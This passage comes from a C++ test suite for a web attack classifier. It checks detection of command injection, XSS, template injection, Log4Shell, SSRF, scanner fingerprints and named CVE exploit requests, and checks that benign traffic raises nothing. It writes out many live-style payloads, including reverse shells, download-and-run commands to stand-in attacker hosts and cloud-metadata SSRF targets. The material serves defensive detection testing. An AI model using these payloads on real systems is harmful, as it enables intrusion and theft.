// lists (separators, evasions of filters on spaces, quotes and command names, time-based and
// out-of-band probes, download-and-run, reverse shells) for Unix shells and cmd.exe/PowerShell.
// Each is the decoded value of a parameter that reaches a shell.
TEST_F(ClassifierCommandInjection, SeparatorsEvasionsAndPlatforms) {
  const std::vector<std::string_view> values = {
      // Separators.
      ";id",
      "|id",
      "`id`",
      "$(id)",
      "\nid",
      "\r\nid",
      "&&id",
      "|| id",
      "127.0.0.1;id;",
      "127.0.0.1|whoami",
      "127.0.0.1 && whoami",
      "x;uname -a",
      "8.8.8.8 & id &",
      "127.0.0.1\ncat /etc/passwd",
      // Commands with arguments and full paths.
      ";cat /etc/passwd",
      ";/usr/bin/id",
      "|/bin/cat /etc/passwd",
      "||/usr/bin/id|",
      ";ls -la /",
      ";cat</etc/passwd",
      ";head -n1 /etc/passwd",
      ";tail /etc/shadow",
      ";more /etc/passwd",
      ";base64 /etc/passwd",
      ";find / -perm -4000",
      ";ps aux",
      ";netstat -an",
      ";ip addr",
      ";cat /proc/version",
      ";env",
      ";printenv",
      ";echo abcdef",
      "|echo vulnerable",
      "; whoami #",
      ";id #",
      ";sh -c id",
      ";bash -c 'id'",
      ";/bin/bash -c id",
      ";touch /tmp/pwned",
      ";chmod 777 /tmp/x",
      ";awk 'BEGIN{system(\"id\")}'",
      // Breaking out of quotes.
      "'; id; '",
      "\"; id #",
      "'$(id)'",
      "\"|id\"",
      "x' && whoami && '",
      "';id;'",
      "'|id|'",
      // Filter evasions: spaces, quotes, names, globbing, variables.
      ";${IFS}id",
      ";cat${IFS}/etc/passwd",
      ";cat$IFS/etc/passwd",
      ";cat$IFS$9/etc/passwd",
      ";{cat,/etc/passwd}",
      ";c'a't /etc/passwd",
      ";c\"a\"t /etc/passwd",
      ";c\\at /etc/passwd",
      ";wh$@oami",
      ";who$()ami",
      ";a=i;b=d;$a$b",
      R"v(;/???/c?t /???/p??s??)v",
      R"v(;/b??/c?t /e??/p*d)v",
      ";cat /e*c/p*d",
      "1;sleep${IFS}5",
      ";{sleep,5}",
      ";echo${IFS}aWQ=|base64${IFS}-d|sh",
      ";X=$'cat\\x20/etc/passwd'&&$X",
      ";$'\\x69\\x64'",
      // Time-based.
      "$(sleep 5)",
      "`sleep 5`",
      ";sleep 10;",
      "| sleep 5",
      "& sleep 5 &",
      ";sleep 5 &",
      ";ping -c 10 127.0.0.1",
      "& ping -c 5 127.0.0.1 &",
      // Out-of-band and download-and-run.
      ";nslookup abc.attacker.example",
      ";dig +short x.evil.example",
      "$(nslookup $(whoami).x.attacker.example)",
      "$(curl http://203.0.113.5/$(whoami))",
      ";curl http://203.0.113.5/x.sh|sh",
      ";wget -O- http://203.0.113.5/x|sh",
      ";wget http://203.0.113.5/x -O /tmp/x;chmod +x /tmp/x;/tmp/x",
      ";curl -s evil.example/x | bash",
      ";echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/html/s.php",
      // Interpreters and reverse shells.
      ";python -c 'import socket,subprocess,os'",
      ";python3 -c \"import os;os.system('id')\"",
      ";perl -e 'print 1'",
      ";php -r 'system(\"id\");'",
      ";ruby -e 'exec \"id\"'",
      ";nc 203.0.113.5 4444 -e /bin/sh",
      ";nc -lvp 4444",
      ";telnet 203.0.113.5 23",
      ";busybox nc 203.0.113.5 4444 -e sh",
      ";bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
      ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
      ";xterm -display 203.0.113.5:1",
      // Windows.
      "& whoami",
      "| whoami",
      "&& dir",
      "| type c:\\windows\\win.ini",
      "& type C:\\Windows\\System32\\drivers\\etc\\hosts",
      "& %COMSPEC% /c whoami",
      "| cmd /c whoami",
      "& cmd.exe /c ipconfig",
      "| powershell -e SQBFAFgAIAAoAE4AZQB3AC0A",
      ";powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x/a')\"",
      "& ping -n 10 127.0.0.1",
      "& net user",
      "& net localgroup administrators",
      "| systeminfo",
      "& tasklist",
      "& ver",
      "& echo %USERNAME%",
      "& nslookup x.attacker.example",
      "& certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe",
      "& timeout /t 10",
      "& wmic os get caption",
      "&& whoami /priv",
      "& w^h^o^a^m^i",
      "& who\"a\"mi",
      "\r\nwhoami",
      // Parameters handed to a shell whole (direct execution).
      "cat /etc/passwd | nc 203.0.113.5 4444",
      "head -n 20 /etc/passwd",
      "wget http://203.0.113.5/x.sh -O /tmp/x.sh",
      "uname -a",
      "ls -la /var/www",
      "ping -c 3 203.0.113.5",
      "nslookup x.attacker.example",
      "python -c 'import os'",
      "sleep 5",
      "whoami /all",
      "ps aux",
      "uname -a;",
      "cmd /c dir",
      "type c:\\windows\\win.ini > c:\\inetpub\\wwwroot\\x.txt",
      "curl http://203.0.113.5/shell.sh",
      // More evasions.
      "ping%CommonProgramFiles:~10,-18%127.0.0.1",
      ";ls${LS_COLORS:10:1}${IFS}id",
      "IFS=,;`cat<<<uname,-a`",
      ";/\\b\\i\\n/////s\\h",
      "<(id)",
      ";ls%09-al%09/home",
      // Code injection reaching an interpreter.
      "phpinfo()",
      "${@system(id)}",
      "eval($_GET[c])",
      "system('cat /etc/passwd');",
      "process.mainModule.require('child_process').execSync('id')",
      "__import__('os').popen('id').read()",
      "IO.popen('id').read",
  };
  expectValues(Category::kCommandInjection, "/ping?host=", values);
}

// ------------------------------------------------------------------ xss

TEST_F(ClassifierXss, TagsHandlersSchemesAndEvasions) {
  expectAll(Category::kXss,
            {
                {"/search?q=<script>alert(1)</script>"},
                {"/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"},
                {"/search?q=%253Csvg%252Fonload%253Dalert%25281%2529%253E"},
                {"/search?q=&lt;script&gt;alert(document.cookie)&lt;/script&gt;"},
                {"/r?url=javascript:alert(1)"},
                {"/r?url=java%09script:alert(1)"},
                {"/search?q=%22%3E%3Cbody%20onload=alert(1)%3E"},
                {"/p?name=%u003Ciframe%20src=//evil.example%3E"},
                {"/p?x=%27%20onmouseover=%27alert(1)"},
                {"/p?x=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
                {"/p?x=<div%20style=%22width:expression(alert(1))%22>"},
                {"/p?q=%3CScRiPt%3Econfirm%60%60%3C/sCrIpT%3E"},
                {"/p?q=&#x3C;svg&#x20;onload&#x3D;prompt(1)&#x3E;"},
                {"/", "<script>alert(1)</script>"},
                {"/", kChrome, "https://example.com/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"},
            });
}

// ------------------------------------------------------------------ ssti

TEST_F(ClassifierSsti, EnginesAndProbes) {
  expectAll(Category::kSsti,
            {
                {"/p?name={{7*7}}"},
                {"/p?name=%7B%7B7*%277%27%7D%7D"},
                {"/p?name=${7*7}"},
                {"/p?name=%23%7B7*7%7D"},
                {"/p?name=%3C%25%3D%207*7%20%25%3E"},
                {"/p?name={{config.items()}}"},
                {"/p?name={{%27%27.__class__.__mro__[1].__subclasses__()}}"},
                {"/p?x=%3C%23assign%20ex=%22freemarker.template.utility.Execute%22?new()%3E"},
                {"/p?x=%23set(%24x=1)"},
                {"/p?x=*{T(java.lang.Runtime).getRuntime().exec(%27id%27)}"},
                {"/p?x=%25{(%23_memberAccess[%27allowStaticMethodAccess%27]=true)}"},
                {"/p?x=${T(java.lang.Runtime).getRuntime()}"},
                {"/p?x={{constructor.constructor(%27alert(1)%27)()}}"},
                {"/p?x=%257B%257B7*7%257D%257D"},  // double encoding
                {"/p?x=%7B%7Bdump(app)%7D%7D"},
                {"/p?x={$smarty.version}"},
                {"/p?x=%24%7BpageContext.request.serverName%7D"},
            });
}

// ------------------------------------------------------------------ log4shell

TEST_F(ClassifierLog4shell, LookupsInEveryField) {
  expectAll(Category::kLog4shell,
            {
                {"/?x=${jndi:ldap://evil.example/a}"},
                {"/", "${jndi:ldap://198.51.100.4:1389/a}"},
                {"/", "${${lower:j}ndi:${lower:l}dap://x.example/a}"},
                {"/", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}"},
                {"/", kChrome,
                 "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}"},
                {"/", kChrome, "", "GET", "${jndi:dns://x.example}"},
                {"/%24%7Bjndi:rmi://x.example/a%7D"},
                {"/?q=%2524%257Bjndi%253Aldaps%253A%252F%252Fx.example%252Fa%257D"},
                {"/", "${jndi:${lower:l}${lower:d}a${lower:p}://x.example}"},
                {"/", "${${upper:J}NDI:iiop://x.example}"},
                {"/", "${env:AWS_SECRET_ACCESS_KEY}"},
            });
}

// ------------------------------------------------------------------ ssrf

TEST_F(ClassifierSsrf, InternalTargetsInParameters) {
  expectAll(Category::kSsrf,
            {
                {"/fetch?url=http://169.254.169.254/latest/meta-data/"},
                {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/"},
                {"/fetch?url=http://100.100.100.200/latest/meta-data"},
                {"/fetch?url=http://127.0.0.1:8080/admin"},
                {"/fetch?url=http://localhost/"},
                {"/fetch?url=http://2130706433/"},
                {"/fetch?url=http://0x7f000001/"},
                {"/fetch?url=http://0177.0.0.1/"},
                {"/fetch?url=file:///etc/passwd"},
                {"/fetch?url=gopher://127.0.0.1:6379/_INFO"},
                {"/fetch?url=dict://localhost:11211/stat"},
                {"/fetch?url=http://[::1]/"},
                {"/fetch?url=http%253A%252F%252F169.254.169.254%252F"},
                {"/proxy?u=http://user@127.0.0.1/"},
                {"/img?src=http://192.168.0.1/setup.cgi"},
                {"/img?src=http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"},
                {"/img?src=jar:http://203.0.113.50/x.jar!/"},
                {"http://169.254.169.254/"},  // absolute-form: the authority is the target
                {"/", kChrome, "", "GET", "metadata.google.internal"},
            });
}

// ------------------------------------------------------------------ scanner

TEST_F(ClassifierScanner, ToolFingerprintsAreReconnaissance) {
  const std::vector<Req> probes = {
      {"/", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
      {"/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
      {"/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
      {"/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
      {"/", "Mozilla/5.0 zgrab/0.x"},
      {"/", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"},
      {"/", "gobuster/3.6"},
      {"/", "Fuzz Faster U Fool v2.1.0-dev"},
      {"/", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
      {"/?x=abc123.oastify.com"},
      {"/nessus_is_probing_you_"},
      {"/acunetix-wvs-test-for-some-inexistent-file"},
      {"/w00tw00t.at.ISC.SANS.DFind:)"},
      {"/HNAP1/", "Mozilla/5.0"},
      {"/", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1) acunetix_wvs_security_test"},
  };
  expectAll(Category::kScanner, probes);
  // Nmap's service probe asks for a ".bak" file: scanner, and a backup-file request besides.
  expectAll(Category::kScanner, {{"/nice%20ports%2C/Tri%6Eity.txt%2ebak"}});
  for (const Req& r : probes) {
    const Detection d = classify(r);
    EXPECT_TRUE(d.reconnaissanceOnly) << r.target << " " << r.userAgent << " -> " << describe(d);
  }
}

// ------------------------------------------------------------------ exploits

struct ExploitCase {
  Req req;
  std::string_view cve;
  CategoryMask alsoExpected;
};

TEST_F(ClassifierExploit, KnownApplianceExploitsNameTheirCve) {
  const CategoryMask trav = maskOf(Category::kPathTraversal);
  const CategoryMask cmd = maskOf(Category::kCommandInjection);
  const CategoryMask file = maskOf(Category::kSensitiveFile);
  const std::vector<ExploitCase> cases = {
      {{"/ssl-vpn/hipreport.esp/"
        "..%2f..%2f..%2fopt%2fpanlogs%2ftmp%2fdevice_telemetry%2fminute%2fx%60id%60",
        kChrome, "", "POST"},
       "CVE-2024-3400",
       trav},
      {{"/global-protect/portal/images/watchtowr.txt"}, "CVE-2024-3400", 0},
      {{"/ssl-vpn/hipreport.esp", kChrome, "", "POST"}, "CVE-2024-3400", 0},
      {{"/icons/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd"}, "CVE-2021-42013", trav},
      {{"/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/"
        "guacamole/"},
       "CVE-2019-11510",
       trav | file},
      {{"/console/css/"
        "%252e%252e%252fconsole.portal?_nfpb=true&handle=com.tangosol.coherence.mvel2.sh."
        "ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)"},
       "CVE-2020-14882",
       trav | maskOf(Category::kSsti)},
      {{"/api/v2/cmdb/system/admin/admin", "Report Runner", "", "PUT"}, "CVE-2022-40684", 0},
      {{"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"},
       "CVE-2018-13379",
       trav | file},
      {{"/remote/VPN", kChrome, "", "POST"}, "CVE-2024-21762", 0},
      {{"/remote/hostcheck_validate", kChrome, "", "POST"}, "CVE-2024-21762", 0},
      {{"/api/v1/totp/user-backup-code/../../license/keys-status/"
        "%3Bpython%20-c%20%27import%20os%27%3B"},
       "CVE-2023-46805",
       trav},
      {{"/api/v1/totp/user-backup-code/../../license/keys-status/%3Bcurl%20http://198.51.100.2/"
        "x%7Csh"},
       "CVE-2024-21887",
       cmd},
      {{"/clients/MyCRL", kChrome, "", "POST"}, "CVE-2024-24919", trav},
      {{"/vpn/../vpns/cfg/smb.conf"}, "CVE-2019-19781", trav},
      {{"/vpns/portal/scripts/newbm.pl", kChrome, "", "POST"}, "CVE-2019-19781", 0},
      {{"/gwtest/formssso?event=start&target=AAAAAAAAAAAAAAAAAAAAAAAA"}, "CVE-2023-3519", 0},
      {{"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40"
        "getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com."
        "opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-"
        "Response%22%2C%23a%29%29%7D/"},
       "CVE-2022-26134",
       maskOf(Category::kSsti)},
      {{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", kChrome, "", "POST"}, "CVE-2021-41773", trav | cmd},
      {{"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"}, "CVE-2021-41773", trav | file},
      {{"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
       "CVE-2022-22965",
       0},
      {{"/mgmt/tm/util/bash", kChrome, "", "POST"}, "CVE-2022-1388", cmd},
      {{"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"},
       "CVE-2020-5902",
       trav},
      {{"/autodiscover/autodiscover.json?@evil.example/owa/&Email=autodiscover/"
        "autodiscover.json%3F@evil.example"},
       "CVE-2021-34473",
       0},
      {{"/index.php?s=/Index/\\think\\app/"
        "invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"},
       "CVE-2018-20062",
       0},
      {{"/user/register?element_parents=account/mail/"
        "%23value&ajax_form=1&_wrapper_format=drupal_ajax"},
       "CVE-2018-7600",
       0},
      {{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", kChrome, "", "POST"},
       "CVE-2017-9841",
       cmd},
      {{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
        kChrome, "", "POST"},
       "CVE-2024-4577",
       cmd},
      {{"/index.php?routestring=ajax/render/widget_php", kChrome, "", "POST"}, "CVE-2019-16759", 0},
      {{"/cgi-bin/status", "() { :; }; echo; /bin/cat /etc/passwd"}, "CVE-2014-6271", cmd},
  };
  for (const ExploitCase& c : cases) {
    const Detection d = classify(c.req);
    EXPECT_TRUE(hasCategory(d.categories, Category::kExploit))
        << c.req.target << " -> " << describe(d);
    EXPECT_TRUE(hasCve(d, c.cve)) << c.req.target << " expected " << c.cve;
    EXPECT_EQ(d.categories & c.alsoExpected, c.alsoExpected)
        << c.req.target << " -> " << describe(d);
    EXPECT_FALSE(d.reconnaissanceOnly) << c.req.target;
  }
}

TEST_F(ClassifierExploit, MethodBoundRulesNeedTheirMethod) {
  // The FortiOS and Check Point rules describe a POST; a GET of the same path is a page view.
  EXPECT_FALSE(
      hasCategory(classify({"/remote/VPN", kChrome, "", "GET"}).categories, Category::kExploit));
  EXPECT_FALSE(
      hasCategory(classify({"/clients/MyCRL", kChrome, "", "GET"}).categories, Category::kExploit));
  EXPECT_TRUE(hasCategory(classify({"/clients/MyCRL", kChrome, "", "post"}).categories,
                          Category::kExploit));
}

// ------------------------------------------------------------------ benign traffic

TEST_F(ClassifierBenign, RealisticTrafficRaisesNothing) {
  const std::vector<Req> benign = {
      {"/"},
      {"/index.html", kFirefox},
      {"/favicon.ico", kSafari},
      {"/robots.txt", kGooglebot},
      {"/sitemap.xml", kBingbot},
      {"/about/", kIphone, "https://www.google.com/"},
      {"/news/2024/03/15/press-release.html", kAndroid, "https://t.co/AbC123xyz"},
      {"/static/js/app.3f9a1c.min.js", kEdge, "https://www.example.go.jp/"},
      {"/static/css/main.css?v=20240301"},
      {"/assets/fonts/NotoSansJP-Regular.woff2"},
      {"/images/logo@2x.png"},
      {"/wp-content/themes/twentytwentyfour/style.css?ver=6.4.3"},
      {"/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8"},
      {"/wp-login.php", kFirefox},
      {"/wp-admin/admin-ajax.php?action=heartbeat", kChrome, "https://example.com/wp-admin/"},
      {"/search?q=select+a+plan+from+the+list"},
      {"/search?q=union+station+to+select+city"},
      {"/search?q=how+to+drop+a+table+leg"},
      {"/search?q=O%27Reilly+books"},
      {"/search?q=rock+%27n%27+roll"},
      {"/search?q=kids%27+--+toys"},
      {"/search?q=%22exact+phrase%22+search"},
      {"/search?q=%E6%9D%B1%E4%BA%AC%E9%83%BD+%E5%A4%A9%E6%B0%97", kIphone},
      {"/search?q=%E3%83%9E%E3%82%A4%E3%83%8A%E3%83%B3%E3%83%90%E3%83%BC%E3%82%AB%E3%83%BC%E3%83%"
       "89"},
      {"/search?q=%E5%8E%9F%E5%AD%90%E5%8A%9B+%E8%A6%8F%E5%88%B6&page=2"},
      {"/search?q=1+or+2+people"},
      {"/search?q=sleep+apnea+treatment"},
      {"/search?q=cat+food+for+kittens"},
      {"/search?q=C%2B%2B+templates"},
      {"/search?q=what+is+%7B%7Bmustache%7D%7D"},
      {"/search?q=price+%3C+100"},
      {"/search?q=earthquake+alert+system"},
      {"/search?q=javascript+tutorial"},
      {"/search?q=%3Cb%3Ebold%3C%2Fb%3E+tag"},
      {"/search?q=on+sale+items"},
      {"/search?q=email%40example.com"},
      {"/search?q=Tom+%26+Jerry"},
      {"/search?q=%22hello%22+OR+%22world%22"},
      {"/products?id=12345&color=red&size=M"},
      {"/products/12345/reviews?page=2&sort=newest"},
      {"/api/v1/users/42?fields=name,email"},
      {"/api/v2/"
       "search?filter=%7B%22status%22%3A%22active%22%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D"},
      {"/api/v1/orders?status=pending&created_after=2024-01-01T00:00:00Z"},
      {"/callback?code=4%2F0AX4XfWh&state=xyz&scope=email+profile"},
      {"/auth/"
       "callback?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6"
       "IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"},
      {"/landing?utm_source=google&utm_medium=cpc&utm_campaign=spring_sale&gclid=EAIaIQobChMI8eP7"
       "kZ2Q_wIVGtZMAh0xTgZ4EAAYASAAEgK5ZvD_BwE"},
      {"/landing?fbclid=IwAR2F4-dbP0l7Mn1FkQm3_h5ZL8sXxTqG9yVwB4J7nR2aC0dE6fH8iK1lM3o&utm_content="
       "a|b|c"},
      {"/img?data=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+Phf/"
       "DwAChwGA60e6kgAAAAB"
       "JRU5ErkJggg%3D%3D"},
      {"/share?text=I%27m+here%21&url=https%3A%2F%2Fexample.com%2Fpage"},
      {"/redirect?to=https%3A%2F%2Fwww.example.org%2Fnews%3Fid%3D5"},
      {"/login?next=%2Faccount%2Fsettings"},
      {"/logout?return=/home"},
      {"/download?file=annual-report-2023.pdf"},
      {"/download/reports/2023/summary.zip"},
      {"/files/open-data/population.csv"},
      {"/calendar?date=2024-04-01&view=month"},
      {"/cart?item=sku-123&qty=2&coupon=SPRING10"},
      {"/comments?author=O%27Brien&text=Great+article%2C+thanks%21"},
      {"/en/products/tv-55-inch-4k/"},
      {"/ja/%E3%81%8A%E7%9F%A5%E3%82%89%E3%81%9B/", kAndroid},
      {"/path/with%20space/file.html"},
      {"/feed.xml", "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)"},
      {"/.well-known/acme-challenge/abc123XYZ",
       "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"},
      {"/.well-known/security.txt"},
      {"/apple-touch-icon.png", kSafari},
      {"/manifest.json"},
      {"/service-worker.js"},
      {"/graphql?query=%7Buser(id%3A%225%22)%7Bname%7D%7D"},
      {"/maps?ll=35.6812,139.7671&z=15"},
      {"/track?e=pageview&p=%2Fnews%2F&r=https%3A%2F%2Fwww.google.com%2F"},
      {"/video/watch?v=dQw4w9WgXcQ&t=42s"},
      {"/weather?city=Osaka&units=metric"},
      {"/recipes?ingredients=eggs%2Cmilk%2Cflour&diet=vegetarian"},
      {"/compare?a=1&b=2&&c=3"},
      {"/page?title=Don%27t+Stop+Me+Now"},
      {"/select-plan?tier=union"},
      {"/events?from=2024-01-01&to=2024-12-31&type=all"},
      {"/products?sort=price;desc"},
      {"/app;jsessionid=1A2B3C4D5E6F?x=1"},
      {"/api/items?ids=1,2,3,4"},
      {"/static/img/pic.jpg?w=300&h=200&fit=crop"},
      {"/lang/ja.json"},
      {"/env/production/banner.png"},
      {"/git-guide/"},
      {"/backup-policy.html"},
      {"/docs/etc/overview.html"},
      {"/admin/login"},
      {"/user/profile?tab=security"},
      {"/help/faq?topic=password-reset"},
      {"/news?category=politics&page=3"},
      {"/static/js/vendor/jquery-3.7.1.min.js"},
      {"/static/js/chunk-vendors.js.map"},
      {"/api/upload?name=photo+%281%29.jpg"},
      {"/v1/metrics?labels=env%3Dprod%2Cregion%3Dap-northeast-1"},
      {"/shop?price_min=10&price_max=100&order=asc"},
      {"/tags/c%23"},
      {"/wiki/Main_Page?action=history"},
      {"/wiki/Special:Search?search=%22union+square%22"},
      {"/wiki/L%27Or%C3%A9al"},
      {"/map?q=Shibuya+%26+Harajuku"},
      {"/?s=kyoto+temples"},
      {"/?p=123"},
      {"/?page_id=45&preview=true"},
      {"/index.php?option=com_content&view=article&id=10&Itemid=101"},
      {"/checkout?step=2&method=credit-card", kChrome, "https://shop.example.com/cart"},
      {"/contact?subject=Question+about+order+%2312345"},
      {"/sdk/docs/index.html"},
      {"/remote/login", kChrome, "", "GET"},
      {"/global-protect/login.esp"},
      {"/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.com%2fowa%2f&reason=0"},
      {"/health", "kube-probe/1.29"},
      {"/status", "curl/8.5.0"},
      {"/search?q=script+writing+course"},
      {"/a/b/c.html", kChrome, "https://example.com/a/b/../c.html"},
      {"/news/", kChrome, "https://www.bing.com/search?q=tokyo+weather&form=QBLH"},
      {"/news/", kChrome, "https://www.google.co.jp/search?q=%E3%83%8B%E3%83%A5%E3%83%BC%E3%82%B9"},
      {"/blog/posts/2023/12/year-in-review", kFirefox,
       "https://news.ycombinator.com/item?id=38765432"},
      {"/api/v1/feedback", kChrome, "", "POST"},
      {"/upload", kChrome, "", "PUT"},
      {"/docs/sql-guide/select-statement.html"},
      {"/search?q=SELECT+statement+tutorial"},
      {"/search?q=information+schema+design+course"},
      {"/search?q=%E2%80%9Cquoted%E2%80%9D+text"},
      {"/items?filter[status]=open&filter[owner]=me"},
      {"/p?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback"},
      {"/search?q=100%25+cotton"},
      {"/search?q=50%+off"},
      {"/search?q=a+%7C+b"},
      {"/api/v1/"
       "search?q=press&filter=%7B%22select%22:%5B%22id%22,%22name%22%5D,%22where%22:%7B%22active%"
       "22:true%7D%7D"},
      {"/search?q=file%3A%2F%2F+links+not+opening"},
      {"/search?q=cat+%2Fetc%2Fhosts+explained", kFirefox},
      {"/help?q=%24%7BHOME%7D+variable"},
      {"/help?q=%7B%7B+template+%7D%7D+syntax"},
      {"/list?back=..%2Flist.html"},
      {"/docs/guide/../api/", "linkchecker/10.2"},
      {"/list?sort=updated_at+DESC%2C+id+ASC"},
      {"/sso?SAMLRequest=fZJNT8MwDIbvSPyHKvetbbpJKFo7jU1ITBuq2nLgloUkNhSpE5J0qqT%"
       "2BPc4KsMPY1fHj97Xd5Wrf"},
  };
  ASSERT_GE(benign.size(), 80u);
  for (const Req& r : benign) {
    const Detection d = classify(r);
    EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " | ua=" << r.userAgent
                               << " | referer=" << r.referer << " -> " << describe(d);
    EXPECT_FALSE(d.reconnaissanceOnly) << r.target;
    EXPECT_EQ(d.cveCount, 0) << r.target;
  }
}

// Values that share surface features with the injections above (SQL words with comparisons,
// shell words after ';' or '|', command names in searches, percent signs, '&&') and are not
// attacks.
TEST_F(ClassifierBenign, ShellAndSqlLookalikesRaiseNothing) {
  const std::vector<Req> benign = {
      {"/search?q=how+to+use+cat+command"},
      {"/search?q=cat+%2Fetc%2Fhosts"},
      {"/search?q=how+to+use+grep+-r"},
      {"/search?q=wget+vs+curl"},
      {"/search?q=ping+command+windows"},
      {"/search?q=bash+if+then+else"},
      {"/search?q=powershell+get-childitem"},
      {"/search?q=id+card+renewal"},
      {"/search?q=sleep+5+hours+a+night"},
      {"/search?q=sleep+apnea+and+snoring"},
      {"/search?q=ping+pong+table"},
      {"/search?q=how+to+ping+a+server"},
      {"/search?q=ls+command+linux"},
      {"/search?q=curl+vs+wget"},
      {"/search?q=python+tutorial+for+beginners"},
      {"/search?q=echo+dot+review"},
      {"/search?q=type+of+cats"},
      {"/search?q=dir+en+grey"},
      {"/search?q=net+user+guide"},
      {"/search?q=find+my+phone"},
      {"/search?q=head+and+shoulders"},
      {"/search?q=who+am+i"},
      {"/search?q=env+variables+in+docker"},
      {"/search?q=%24HOME+directory"},
      {"/search?q=set+and+forget"},
      {"/search?q=the+more+the+merrier"},
      {"/t?utm_content=banner|top|v2&utm_term=shoes"},
      {"/p?cat=1;2"},
      {"/p?cat=12;34;56"},
      {"/filter?fields=id|name|email"},
      {"/filter?fields=id;name;email"},
      {"/api/items?sort=name|asc"},
      {"/products?tags=dining;table;set"},
      {"/search?q=cats;+dogs;+birds"},
      {"/search?q=rock+and+roll;+blues+or+jazz"},
      {"/search?q=price|size|color"},
      {"/search?q=John+%26+Sons+Ltd"},
      {"/search?q=version+2.0+%7C+release+notes"},
      {"/search?q=O%27Neil%27s+pub;+dublin"},
      {"/search?q=rock%27n%27roll;+hits"},
      {"/search?q=I%27d+like+a+refund;+I%27d+prefer+cash"},
      {"/search?q=mind+your+p%27s+and+q%27s"},
      {"/search?q=100%25+off%3B+today+only"},
      {"/search?q=a+%26%26+b"},
      {"/search?q=1+%26%26+2"},
      {"/search?q=select+case+when+sql"},
      {"/search?q=order+by+relevance"},
      {"/search?q=1+having+fun"},
      {"/calc?expr=if(a%3D1,b,c)"},
      {"/search?q=round(2.5)+%3D+3"},
      {"/search?q=max(a,+b)+%3D+c"},
      {"/search?q=power+(watts)+or+torque"},
      {"/p?code=%25A%25B%25C"},
      {"/p?fmt=%25s+and+%25d"},
      {"/search?q=caf%C3%A9%C2%A0au+lait"},
      {"/search?q=get_lock+function"},
  };
  for (const Req& r : benign) {
    const Detection d = classify(r);
    EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " | ua=" << r.userAgent
                               << " | referer=" << r.referer << " -> " << describe(d);
    EXPECT_FALSE(d.reconnaissanceOnly) << r.target;
    EXPECT_EQ(d.cveCount, 0) << r.target;
  }
}

// Written for the SQL-injection gap against the OWASP CRS: values whose SQL reaches past the
// tokenizer's five tokens (a subquery compared or assigned, a whole statement ending in a
// tautology, PostgreSQL COPY ... TO PROGRAM) and the context shapes the tokenizer now reads
// (INSERT rows, UPDATE assignments, ORDER BY / LIMIT tails, CASE WHEN, dialect literals).
TEST_F(ClassifierSqli, ApplicationContextsSubqueriesAndStatements) {
  expectValues(Category::kSqli, "/products?category=toys&id=",
               {
                   R"v(1 AND id=(SELECT MAX(id) FROM users))v",
                   R"v(1, email=(SELECT password FROM users LIMIT 1))v",
                   R"v(x' AND role=(SELECT role FROM users WHERE id=1)--)v",
                   R"v(1 OR price>(SELECT AVG(price) FROM items))v",
                   R"v(1/**/AND/**/id=(SELECT/**/MAX(id)/**/FROM/**/users))v",
                   R"v(1 AND 1 IN (SELECT TOP 1 name FROM sys.tables))v",
                   R"v(SELECT * FROM users WHERE id=1 OR 1=1)v",
                   R"v(select name from users where name='a' or 'x'='x')v",
                   R"v(1; COPY (SELECT '') TO PROGRAM 'id'--)v",
                   R"v(abc', role='admin)v",
                   R"v(', balance=99999 --)v",
                   R"v('),('eve','admin')--)v",
                   R"v(1, 1)--)v",
                   R"v(name DESC,(SELECT 1 FROM (SELECT SLEEP(5))x))v",
